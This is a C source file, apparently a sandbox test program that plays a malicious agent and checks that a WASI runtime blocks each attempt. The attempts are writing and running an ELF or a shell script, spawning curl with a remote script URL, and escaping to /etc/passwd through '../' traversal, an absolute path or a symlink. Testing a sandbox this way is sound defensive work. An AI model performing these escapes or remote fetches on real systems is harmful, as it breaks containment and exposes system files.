// SPDX-License-Identifier: GPL-2.0
/*
 * agent: a malicious agent. One attempt per run, chosen by argv[1], so
 * a test sees each attempt's outcome (status, audit event) separately:
 *
 *   write-elf-run DIR     write an ELF into DIR, spawn its path
 *   write-script-run DIR  write a #!/bin/sh script into DIR, spawn its path
 *   spawn-unlisted [NAME] spawn a module that is not in the megabinary (curl)
 *   wasm-from-disk FILE   read wasm bytes from FILE, ask to run them
 *   escape-dotdot DIR     open DIR/../../../../etc/passwd (relative to DIR)
 *   escape-symlink DIR    create DIR/agent-link -> /etc/passwd, then open
 *                         DIR/link-out (a link made beforehand, pointing out)
 *   escape-absolute DIR   open "/etc/passwd" relative to DIR
 *
 * The spawn attempts must never return (status 120 from the vkernel).
 * The escape attempts print "refused: <error>" and exit 0 when refused,
 * "ESCAPED" and exit 3 if the file opened. Exit 3 always means the attack
 * worked; 2 is a usage or setup error.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <wasi/api.h>

#include "nojit_guest.h"

static int write_file(const char *path, const void *data, size_t len)
{
	FILE *f = fopen(path, "wb");

	if (!f || fwrite(data, 1, len, f) != len || fclose(f) != 0) {
		fprintf(stderr, "agent: %s: %s\n", path, strerror(errno));
		return -1;
	}
	return 0;
}

static int spawn_path(const char *path)
{
	const char *argv[] = { path, NULL };
	int32_t st;

	printf("agent: spawning %s\n", path);
	fflush(stdout);
	st = nojit_spawn(path, strlen(path), argv, 1);
	printf("agent: spawn returned %d: NOT DENIED\n", (int)st);
	return 3;
}

static int write_elf_run(const char *dir)
{
	/* An x86-64 ELF header whose code would be exit(0). */
	static const unsigned char elf[] = {
		0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		2, 0, 0x3e, 0, 1, 0, 0, 0, 0x78, 0, 0x40, 0, 0, 0, 0, 0,
		0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		0, 0, 0, 0, 0x40, 0, 0x38, 0, 1, 0, 0, 0, 0, 0, 0, 0,
		0x31, 0xff, 0xb8, 0x3c, 0, 0, 0, 0x0f, 0x05,	/* xor edi,edi; mov eax,60; syscall */
	};
	char path[4096];

	snprintf(path, sizeof(path), "%s/payload.elf", dir);
	if (write_file(path, elf, sizeof(elf)) < 0)
		return 2;
	return spawn_path(path);
}

static int write_script_run(const char *dir)
{
	static const char script[] = "#!/bin/sh\necho pwned\n";
	char path[4096];

	snprintf(path, sizeof(path), "%s/payload.sh", dir);
	if (write_file(path, script, sizeof(script) - 1) < 0)
		return 2;
	return spawn_path(path);
}

static int spawn_unlisted(const char *name)
{
	const char *argv[] = { name, "https://example.com/x.sh", NULL };
	int32_t st;

	printf("agent: spawning %s\n", name);
	fflush(stdout);
	st = nojit_spawn(name, strlen(name), argv, 2);
	printf("agent: spawn returned %d: NOT DENIED\n", (int)st);
	return 3;
}

static int wasm_from_disk(const char *file)
{
	const char *argv[] = { "payload", NULL };
	unsigned char *buf = NULL;
	size_t len = 0, cap = 0, n;
	FILE *f = fopen(file, "rb");
	int32_t st;

	if (!f) {
		fprintf(stderr, "agent: %s: %s\n", file, strerror(errno));
		return 2;
	}
	for (;;) {
		if (len == cap) {
			cap = cap ? 2 * cap : 65536;
			buf = realloc(buf, cap);
			if (!buf)
				return 2;
		}
		n = fread(buf + len, 1, cap - len, f);
		if (n == 0)
			break;
		len += n;
	}
	fclose(f);
	printf("agent: running %zu bytes from %s\n", len, file);
	fflush(stdout);
	st = nojit_spawn_bytes(buf, len, argv, 1);
	printf("agent: spawn_bytes returned %d: NOT DENIED\n", (int)st);
	return 3;
}

static int dir_open(const char *dir)
{
	int fd = open(dir, O_RDONLY | O_DIRECTORY);

	if (fd < 0)
		fprintf(stderr, "agent: %s: %s\n", dir, strerror(errno));
	return fd;
}

/*
 * The raw path_open call relative to dfd, as an attacker would make it
 * (libc refuses some paths, e.g. absolute ones, before asking the host).
 */
static int try_open(const char *what, int dfd, const char *path)
{
	__wasi_fd_t wfd = 0;
	__wasi_errno_t e;
	int fd;

	e = __wasi_path_open(dfd, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, path, 0,
			     __WASI_RIGHTS_FD_READ, 0, 0, &wfd);
	errno = e;
	fd = e ? -1 : (int)wfd;
	if (fd >= 0) {
		char buf[64] = "";
		ssize_t n = read(fd, buf, sizeof(buf) - 1);

		printf("%s: %s: ESCAPED (read %zd bytes: %.20s)\n", what, path, n, buf);
		return 3;
	}
	printf("%s: %s: refused: %s\n", what, path, strerror(errno));
	return 0;
}

int main(int argc, char **argv)
{
	const char *sel = argc > 1 ? argv[1] : "";
	const char *arg = argc > 2 ? argv[2] : NULL;
	int dfd;

	if (!strcmp(sel, "spawn-unlisted"))
		return spawn_unlisted(arg ? arg : "curl");
	if (!arg) {
		fprintf(stderr, "usage: agent write-elf-run|write-script-run|escape-dotdot|"
			"escape-symlink|escape-absolute DIR | wasm-from-disk FILE | "
			"spawn-unlisted [NAME]\n");
		return 2;
	}
	if (!strcmp(sel, "write-elf-run"))
		return write_elf_run(arg);
	if (!strcmp(sel, "write-script-run"))
		return write_script_run(arg);
	if (!strcmp(sel, "wasm-from-disk"))
		return wasm_from_disk(arg);

	dfd = dir_open(arg);
	if (dfd < 0)
		return 2;
	if (!strcmp(sel, "escape-dotdot"))
		return try_open("escape-dotdot", dfd, "../../../../../../etc/passwd");
	if (!strcmp(sel, "escape-absolute"))
		return try_open("escape-absolute", dfd, "/etc/passwd");
	if (!strcmp(sel, "escape-symlink")) {
		if (symlinkat("/etc/passwd", dfd, "agent-link") == 0) {
			int r = try_open("escape-symlink", dfd, "agent-link");

			if (r)
				return r;
		} else {
			printf("escape-symlink: symlink agent-link: refused: %s\n", strerror(errno));
		}
		return try_open("escape-symlink", dfd, "link-out");
	}
	fprintf(stderr, "agent: unknown attempt '%s'\n", sel);
	return 2;
}
